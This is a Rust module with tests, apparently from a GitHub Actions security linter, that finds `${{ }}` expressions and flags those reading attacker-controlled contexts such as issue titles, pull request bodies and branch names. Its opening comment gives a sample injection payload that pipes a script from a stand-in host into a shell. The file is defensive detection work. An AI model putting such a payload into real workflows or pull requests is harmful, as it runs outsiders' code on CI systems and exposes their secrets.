//! GitHub Actions expressions (`${{ … }}`) and which of the contexts they read an outsider
//! controls.
//!
//! GitHub substitutes an expression into a `run:` script (or an `actions/github-script`
//! script) *before* the shell or Node.js reads it, so a pull request title of
//! `"; curl evil | sh #` becomes code. The contexts below are the ones GitHub's security
//! hardening guide names as attacker-controlled: text anyone can write in an issue, a pull
//! request, a comment, a commit or a branch name.

/// One `${{ … }}` in a text: its inner expression and the byte range of the whole.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Expression<'a> {
    pub inner: &'a str,
    pub start: usize,
    pub end: usize,
}

/// Every `${{ … }}` of a text, in order. An unclosed one ends the search.
pub fn expressions(text: &str) -> Vec<Expression<'_>> {
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(open) = text[from..].find("${{").map(|i| from + i) {
        let Some(close) = text[open + 3..].find("}}").map(|i| open + 3 + i) else {
            break;
        };
        found.push(Expression {
            inner: text[open + 3..close].trim(),
            start: open,
            end: close + 2,
        });
        from = close + 2;
    }
    found
}

/// Context paths outsiders write, after `github.event.`; `*` stands for an array index or a
/// filter (`commits[0]`, `commits.*`).
const UNTRUSTED_EVENT_FIELDS: &[&str] = &[
    "issue.title",
    "issue.body",
    "pull_request.title",
    "pull_request.body",
    "pull_request.head.ref",
    "pull_request.head.label",
    "pull_request.head.repo.default_branch",
    "pull_request.head.repo.description",
    "pull_request.head.repo.homepage",
    "comment.body",
    "review.body",
    "review_comment.body",
    "discussion.title",
    "discussion.body",
    "pages.*.page_name",
    "commits.*.message",
    "commits.*.author.email",
    "commits.*.author.name",
    "head_commit.message",
    "head_commit.author.email",
    "head_commit.author.name",
    "head_commit.committer.email",
    "head_commit.committer.name",
    "workflow_run.head_branch",
    "workflow_run.head_commit.message",
    "workflow_run.head_commit.author.email",
    "workflow_run.head_commit.author.name",
    "workflow_run.pull_requests.*.head.ref",
];

/// How far an expression's value can be trusted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Taint {
    /// Written by anyone who can open an issue, a pull request or a comment.
    Outsider,
    /// Written by someone who can start the workflow by hand (`workflow_dispatch` inputs):
    /// people with write access, whose input is still not a script.
    Collaborator,
}

/// The untrusted context an expression reads, if any, with the path as written. A path that
/// is only compared (`github.head_ref == 'main'`, `contains(github.event.issue.title, 'bug')`)
/// does not reach the result: the expression yields a boolean.
pub fn untrusted_context(expression: &str) -> Option<(Taint, String)> {
    for (path, start, end) in context_paths(expression) {
        if is_compared(expression, start, end) {
            continue;
        }
        let normalized = normalize(&path);
        if normalized == "github.head_ref" {
            return Some((Taint::Outsider, path));
        }
        if let Some(field) = normalized.strip_prefix("github.event.")
            && UNTRUSTED_EVENT_FIELDS
                .iter()
                .any(|f| matches_field(f, field))
        {
            return Some((Taint::Outsider, path));
        }
        if normalized.starts_with("inputs.") || normalized.starts_with("github.event.inputs.") {
            return Some((Taint::Collaborator, path));
        }
    }
    None
}

/// The names of `env.NAME` an expression reads.
pub fn env_names(expression: &str) -> Vec<String> {
    context_paths(expression)
        .iter()
        .filter_map(|(p, _, _)| normalize(p).strip_prefix("env.").map(str::to_string))
        .collect()
}

/// Whether an expression reads a secret (`secrets.X`, `secrets['X']`), but not the
/// automatic `secrets.GITHUB_TOKEN`.
pub fn reads_secret(expression: &str) -> bool {
    context_paths(expression).iter().any(|(p, _, _)| {
        let n = normalize(p);
        n.starts_with("secrets.") && n != "secrets.github_token"
    })
}

/// The dotted context paths of an expression with their byte ranges: runs of identifier
/// characters, dots, `*` and bracketed indexes, starting with a letter
/// (`github.event.issue.title`, `github.event.commits[0].message`), outside string literals.
fn context_paths(expression: &str) -> Vec<(String, usize, usize)> {
    let mut paths = Vec::new();
    let mut current = String::new();
    let mut start = 0;
    let mut in_string = false;
    let mut in_bracket = false;
    for (at, c) in expression.char_indices() {
        if in_string {
            if c == '\'' {
                in_string = false;
            }
            if in_bracket {
                current.push(c);
            }
            continue;
        }
        match c {
            '\'' => {
                in_string = true;
                if in_bracket {
                    current.push(c);
                }
            }
            '[' if !current.is_empty() => {
                in_bracket = true;
                current.push(c);
            }
            ']' if in_bracket => {
                in_bracket = false;
                current.push(c);
            }
            c if in_bracket => current.push(c),
            c if c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '.' || c == '*' => {
                if current.is_empty() {
                    if !c.is_ascii_alphabetic() {
                        continue;
                    }
                    start = at;
                }
                current.push(c);
            }
            _ => {
                if !current.is_empty() {
                    paths.push((std::mem::take(&mut current), start, at));
                }
            }
        }
    }
    if !current.is_empty() {
        paths.push((current, start, expression.len()));
    }
    paths
}

/// Whether the path at `start..end` is an operand of a comparison or of a function that
/// returns a boolean, so that its text does not reach the expression's value.
fn is_compared(expression: &str, start: usize, end: usize) -> bool {
    const COMPARISONS: [&str; 4] = ["==", "!=", "<", ">"];
    let after = expression[end..].trim_start();
    let before = expression[..start].trim_end();
    if COMPARISONS
        .iter()
        .any(|op| after.starts_with(op) || before.ends_with(op))
    {
        return true;
    }
    // The innermost call the path is an argument of.
    let mut depth = 0usize;
    for (at, c) in expression[..start].char_indices().rev() {
        match c {
            ')' => depth += 1,
            '(' if depth > 0 => depth -= 1,
            '(' => {
                let function = expression[..at]
                    .trim_end()
                    .rsplit(|c: char| !c.is_ascii_alphanumeric())
                    .next()
                    .unwrap_or("")
                    .to_ascii_lowercase();
                return matches!(function.as_str(), "contains" | "startswith" | "endswith");
            }
            _ => {}
        }
    }
    false
}

/// A path in lower case with indexes written as `.*` and `['name']` as `.name`.
fn normalize(path: &str) -> String {
    let mut out = String::new();
    let mut rest = path;
    while let Some(open) = rest.find('[') {
        out.push_str(&rest[..open]);
        let close = rest[open..].find(']').map_or(rest.len(), |i| open + i);
        let index = rest[open + 1..close].trim();
        let quoted = index.trim_matches(|c| c == '\'' || c == '"');
        if quoted.len() != index.len() {
            out.push('.');
            out.push_str(quoted);
        } else {
            out.push_str(".*");
        }
        rest = rest.get(close + 1..).unwrap_or("");
    }
    out.push_str(rest);
    out.to_ascii_lowercase()
}

fn matches_field(pattern: &str, field: &str) -> bool {
    let pattern: Vec<&str> = pattern.split('.').collect();
    let field: Vec<&str> = field.split('.').collect();
    // `head_commit.message` matches itself and any field below it is not a concern; a
    // longer path (`issue.title.length`) still carries the text only if it is the same.
    pattern.len() == field.len() && pattern.iter().zip(&field).all(|(p, f)| *p == "*" || p == f)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_every_expression_with_its_range() {
        let text = "echo \"${{ github.event.issue.title }}\" && echo ${{env.X}}";
        let found = expressions(text);
        assert_eq!(found.len(), 2);
        assert_eq!(found[0].inner, "github.event.issue.title");
        assert_eq!(&text[found[1].start..found[1].end], "${{env.X}}");
        assert!(expressions("${{ unclosed").is_empty());
    }

    #[test]
    fn outsider_contexts() {
        for e in [
            "github.event.issue.title",
            "github.event.pull_request.head.ref",
            "github.head_ref",
            "github.event.commits[0].message",
            "github.event['comment']['body']",
            "toJSON(github.event.pull_request.body)",
            "format('{0}', github.event.review.body)",
            "github.event.workflow_run.pull_requests[0].head.ref",
        ] {
            assert_eq!(
                untrusted_context(e).map(|(t, _)| t),
                Some(Taint::Outsider),
                "{e}"
            );
        }
    }

    #[test]
    fn trusted_contexts_and_near_misses() {
        for e in [
            "github.event.pull_request.number",
            "github.event.pull_request.head.sha",
            "github.sha",
            "github.ref_name",
            "github.event.issue.user.login",
            "'github.event.issue.title'",
            "github.event.pull_request.title == 'x' && 1 || 2",
            "contains(github.event.issue.title, 'bug')",
            "startsWith(github.head_ref, 'release/')",
            "'main' != github.head_ref",
            "secrets.TOKEN",
            "matrix.python-version",
        ] {
            assert_eq!(untrusted_context(e), None, "{e}");
        }
        assert!(untrusted_context("github.event.issue.title || 'untitled'").is_some());
        assert!(untrusted_context("join(github.event.commits.*.message, ' ')").is_some());
        assert_eq!(
            untrusted_context("inputs.version").map(|(t, _)| t),
            Some(Taint::Collaborator)
        );
    }

    #[test]
    fn secrets_and_env() {
        assert!(reads_secret("secrets.NPM_TOKEN"));
        assert!(reads_secret("secrets['DEPLOY_KEY']"));
        assert!(!reads_secret("secrets.GITHUB_TOKEN"));
        assert!(!reads_secret("github.token"));
        assert_eq!(env_names("env.TITLE || env['BODY']"), ["title", "body"]);
    }
}
